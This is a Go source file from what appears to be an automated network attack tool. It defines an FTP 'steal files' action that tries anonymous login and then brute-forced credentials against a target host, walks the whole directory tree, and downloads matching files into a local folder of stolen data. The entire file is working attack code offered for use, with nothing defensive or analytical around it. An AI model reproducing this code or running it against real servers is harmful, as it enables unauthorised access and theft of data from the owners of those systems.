package actions

import (
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/jlaffaye/ftp"

	"neohunter/internal/core/model"
	"neohunter/internal/core/scanner/brute"
	"neohunter/internal/core/scanner/brute/protocol"
	"neohunter/internal/pkg/logger"
)

// StealFilesFTP 先尝试匿名登录，再依次使用爆破得到的凭据遍历目录树
type StealFilesFTP struct {
	store *brute.CredentialStore
	deps  Deps
}

func NewStealFilesFTP(store *brute.CredentialStore, deps Deps) *StealFilesFTP {
	return &StealFilesFTP{store: store, deps: deps}
}

func (a *StealFilesFTP) Execute(ctx context.Context, ip string, port int, record *model.TargetRecord, key string) model.Outcome {
	cfg := a.deps.config()
	creds := append([]model.Credential{protocol.AnonymousFTP}, uniqueCredentials(credentialsFor(a.store, ip))...)

	wd := startWatchdog(stealWatchdog(cfg), fmt.Sprintf("%s %s", key, ip))
	defer wd.Stop()

	matcher := newFileMatcher(cfg.Steal)
	maxDepth := 0
	if cfg.Steal != nil {
		maxDepth = cfg.Steal.MaxDepth
	}
	start := time.Now()
	seen := make(map[model.Credential]struct{})

	for _, cred := range creds {
		if _, ok := seen[cred]; ok {
			continue
		}
		seen[cred] = struct{}{}
		if ctx.Err() != nil || wd.Stopped() {
			break
		}

		conn, err := protocol.DialFTP(ctx, ip, port)
		if err != nil {
			logger.Debugf("%s: ftp connect %s failed: %v", key, ip, err)
			continue
		}
		if err := conn.Login(cred.User, cred.Password); err != nil {
			conn.Quit()
			logger.Debugf("%s: ftp login %s@%s failed: %v", key, cred.User, ip, err)
			continue
		}
		wd.MarkConnected()

		dir := stolenDir(cfg, "ftp", record.MAC, ip, cred.User)
		n := a.stealWith(ctx, conn, matcher, maxDepth, dir, wd)
		conn.Quit()

		if n > 0 {
			logger.LogActionOperation(key, ip, "success", time.Since(start), map[string]interface{}{
				"user":  cred.User,
				"files": n,
			})
			return model.OutcomeSuccess
		}
	}

	logger.Warnf("%s: no files retrieved from %s:%d", key, ip, port)
	return model.OutcomeFailed
}

func (a *StealFilesFTP) stealWith(ctx context.Context, conn *ftp.ServerConn, m fileMatcher, maxDepth int, dir string, wd *watchdog) int {
	var matches []string
	walker := conn.Walk("/")
	for walker.Next() {
		if ctx.Err() != nil || wd.Stopped() {
			return 0
		}
		p := walker.Path()
		entry := walker.Stat()
		if entry == nil {
			continue
		}
		if entry.Type == ftp.EntryTypeFolder {
			if maxDepth > 0 && depth(p) >= maxDepth {
				walker.SkipDir()
			}
			continue
		}
		if entry.Type == ftp.EntryTypeFile && m.Match(p) {
			matches = append(matches, p)
		}
	}
	if err := walker.Err(); err != nil {
		logger.Debugf("FTP walk stopped: %v", err)
	}

	n := 0
	for _, remote := range matches {
		if ctx.Err() != nil || wd.Stopped() {
			break
		}
		local := localPath(dir, remote)
		if err := downloadFTP(conn, remote, local); err != nil {
			logger.Warnf("Failed to download %s: %v", remote, err)
			continue
		}
		logger.Infof("Downloaded %s to %s", remote, local)
		n++
	}
	return n
}

func downloadFTP(conn *ftp.ServerConn, remote, local string) error {
	resp, err := conn.Retr(remote)
	if err != nil {
		return err
	}
	defer resp.Close()

	if err := os.MkdirAll(filepath.Dir(local), 0755); err != nil {
		return err
	}
	f, err := os.Create(local)
	if err != nil {
		return err
	}
	if _, err := io.Copy(f, resp); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func depth(p string) int {
	p = strings.Trim(p, "/")
	if p == "" {
		return 0
	}
	return strings.Count(p, "/") + 1
}
